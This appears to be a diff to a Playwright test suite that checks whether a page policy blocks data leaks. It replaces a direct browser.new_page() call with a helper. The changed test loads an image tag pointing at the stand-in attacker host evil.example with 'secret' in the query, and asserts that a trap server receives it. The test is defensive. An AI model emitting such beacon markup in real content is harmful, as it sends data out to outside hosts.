@@ -9,6 +9,7 @@ from collections.abc import Iterator
 import pytest
 from playwright.sync_api import Playwright
 
+from tests.chromium import new_page
 from tests.page.hostile import TEXTS, Pages, hostile_pages, in_conversations
 from tests.page.places import everywhere, exported, harm_of_file
 from tests.page.trap import trapped
@@ -62,7 +63,7 @@ def test_harm_would_be_seen(pages: Pages, deed: str) -> None:
 
 def test_without_the_pages_policy_the_trap_would_hear_of_it(playwright: Playwright) -> None:
     with trapped(playwright) as (browser, trap):
-        page = browser.new_page()
+        page = new_page(browser)
         page.set_content("<img src='http://evil.example/p.png?secret'>")
         page.wait_for_load_state("networkidle")
         assert any("GET /p.png?secret" in request for request in trap.requests)
